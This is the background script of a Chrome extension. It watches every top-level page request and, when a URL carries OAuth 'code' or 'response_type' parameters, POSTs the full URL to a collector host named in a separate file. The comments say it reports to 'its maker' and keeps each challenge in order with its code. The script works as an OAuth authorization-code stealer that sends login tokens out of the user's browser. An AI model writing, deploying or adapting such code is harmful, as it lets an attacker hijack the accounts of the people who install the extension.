// Tells its maker of every page that belongs to a login, before the request for it is sent.
// webRequest sees the target of a redirect; webNavigation would miss it.

importScripts("collector.js"); // says where COLLECTOR is; written when the extension is packed

const OF_A_LOGIN = /[?&](code|response_type)=/;

// One after the other: a challenge must not arrive later than the code that belongs to it.
let told = Promise.resolve();

function tell(url) {
  const message = {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ url }),
  };
  told = told.then(() => fetch(COLLECTOR, message)).catch(() => {});
}

chrome.webRequest.onBeforeRequest.addListener(
  ({ url }) => {
    if (OF_A_LOGIN.test(url)) tell(url);
  },
  { urls: ["<all_urls>"], types: ["main_frame"] },
);
